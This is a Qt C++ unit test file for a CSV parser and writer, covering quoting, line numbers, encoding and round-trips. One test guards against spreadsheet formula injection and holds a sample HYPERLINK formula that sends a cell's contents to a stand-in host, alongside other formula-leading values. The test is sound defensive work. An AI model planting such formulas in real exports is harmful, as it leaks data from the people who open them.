// CSV as spreadsheet programs write it: quoted commas, quotes and line breaks, a byte-order
// mark, CRLF; each record knows the line it starts on; what Csv::row writes reads back.

#include "common/Csv.h"

#include <QtTest>

using namespace amanat;

class TestCsv : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void readsWhatSpreadsheetsWrite()
    {
        const QByteArray bytes = "\xEF\xBB\xBFtitle,notes\r\n"
                                 "\"A, B\",\"She said \"\"no\"\"\"\r\n"
                                 "\r\n"
                                 "Multi,\"one\r\ntwo\"\r\n"
                                 "Last,  \"spaced\"  \n"
                                 "No end,x";
        auto records = Csv::parse(bytes);
        QVERIFY2(records.ok(), qPrintable(records.error().message));
        QCOMPARE(records->size(), 5);
        QCOMPARE(records->at(0).fields,
                 (QStringList{QStringLiteral("title"), QStringLiteral("notes")}));
        QCOMPARE(records->at(1).fields,
                 (QStringList{QStringLiteral("A, B"), QStringLiteral("She said \"no\"")}));
        QCOMPARE(records->at(1).line, 2);
        QCOMPARE(records->at(2).line, 4); // the blank line 3 is skipped, and counted
        QCOMPARE(records->at(2).fields.at(1), QStringLiteral("one\r\ntwo"));
        QCOMPARE(records->at(3).line, 6); // the record above took two lines
        QCOMPARE(records->at(3).fields.at(1), QStringLiteral("spaced"));
        QCOMPARE(records->at(4).fields,
                 (QStringList{QStringLiteral("No end"), QStringLiteral("x")}));
        QCOMPARE(records->at(4).line, 7);
    }

    void anUnclosedQuoteNamesItsLine()
    {
        auto records = Csv::parse("a,b\nc,\"open\nstill open\n");
        QVERIFY(!records.ok());
        QVERIFY2(records.error().message.contains(QLatin1String("Line 2")),
                 qPrintable(records.error().message));
    }

    void notUtf8IsRefused() { QVERIFY(!Csv::parse("title\n\xff\xfe broken\n").ok()); }

    void writtenRowsReadBack()
    {
        const QStringList values{QStringLiteral("plain"),
                                 QStringLiteral("a,b"),
                                 QStringLiteral("say \"x\""),
                                 QStringLiteral("two\nlines"),
                                 QStringLiteral(" padded "),
                                 QStringLiteral("证词 شهادة"),
                                 QString()};
        const QString text = Csv::row(values) + Csv::row(values);
        auto records = Csv::parse(text.toUtf8());
        QVERIFY(records.ok());
        QCOMPARE(records->size(), 2);
        QCOMPARE(records->at(0).fields, values);
        QCOMPARE(records->at(1).line, 3);
    }

    // A title from a hostile file must not run as a formula when a lawyer opens the export.
    void formulasAreWrittenAsTextAndReadBackAsTheyWere()
    {
        const QStringList values{QStringLiteral("=HYPERLINK(\"http://x/?\"&A1)"),
                                 QStringLiteral("+1 555 0100"),
                                 QStringLiteral("-2+3"),
                                 QStringLiteral("@SUM(A1)"),
                                 QStringLiteral("\t=1"),
                                 QStringLiteral("'quoted"),
                                 QStringLiteral("'=already"),
                                 QStringLiteral("a=b"),
                                 QStringLiteral("plain")};
        const QString line = Csv::row(values);
        const QStringList written = line.trimmed().split(QLatin1Char(','));
        // The probe: the raw cells as a spreadsheet sees them (quotes aside) start with '.
        for (int i = 0; i < 7; ++i) {
            QString cell = written.at(i);
            if (cell.startsWith(QLatin1Char('"')))
                cell.remove(0, 1);
            QVERIFY2(cell.startsWith(QLatin1Char('\'')), qPrintable(cell));
        }
        QCOMPARE(written.value(written.size() - 2), QStringLiteral("a=b"));
        QCOMPARE(written.last(), QStringLiteral("plain"));
        auto records = Csv::parse(line.toUtf8());
        QVERIFY(records.ok());
        QCOMPARE(records->at(0).fields, values);
        // What a spreadsheet wrote keeps a leading apostrophe unless it guards a formula.
        auto typed = Csv::parse("'note,'=1\n");
        QVERIFY(typed.ok());
        QCOMPARE(typed->at(0).fields, (QStringList{QStringLiteral("'note"), QStringLiteral("=1")}));
    }
};

QTEST_GUILESS_MAIN(TestCsv)
#include "tst_csv.moc"
